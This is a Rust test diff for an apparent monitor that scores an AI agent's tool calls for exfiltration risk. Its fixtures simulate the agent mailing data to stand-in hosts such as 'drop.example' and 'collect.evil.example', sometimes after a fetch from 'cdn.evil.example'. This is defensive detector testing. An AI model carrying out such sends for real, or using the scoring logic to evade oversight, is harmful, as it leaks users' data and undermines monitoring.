@@ -224,6 +224,36 @@ fn collection_then_exfiltration_to_a_new_host_is_a_chain() {
 }
 
 #[test]
+fn a_new_address_at_an_organization_it_sends_to_weighs_less_than_a_new_organization() {
+    let engine = trained("agt_support");
+    let at = DAY0_MS + 2 * 86_400_000 + 11 * 3_600_000;
+    let score = |outcome: &Outcome| {
+        outcome.findings.iter().find(|f| f.kind == FindingKind::NewDestination).map(|f| f.score).unwrap()
+    };
+    let near = Call::new("agt_support", "sess_d", at, "email.send", "mail:outbound")
+        .to("email:billing.acme.example")
+        .observe(&engine);
+    let far = Call::new("agt_support", "sess_e", at, "email.send", "mail:outbound")
+        .to("email:drop.example")
+        .observe(&engine);
+    assert!(score(&near) < score(&far), "{} vs {}", score(&near), score(&far));
+    assert!(far.findings.iter().any(|f| f.explanation.contains("a domain it never sent to")));
+    // A fetch brings data in: its host does not make the host's domain one the
+    // agent sends to.
+    Call::new("agt_support", "sess_f", at, "web.fetch", "web:evil.example")
+        .to("host:cdn.evil.example")
+        .observe(&engine);
+    let post = Call::new("agt_support", "sess_f", at + 1_000, "email.send", "mail:outbound")
+        .to("email:collect.evil.example")
+        .observe(&engine);
+    assert!(
+        post.findings.iter().any(|f| f.explanation.contains("a domain it never sent to")),
+        "{:?}",
+        post.findings
+    );
+}
+
+#[test]
 fn reading_the_control_plane_weighs_less_than_changing_it() {
     // Two engines, so the read does not make the place and the class known to the write.
     let (engine, other) = (trained("agt_support"), trained("agt_support"));
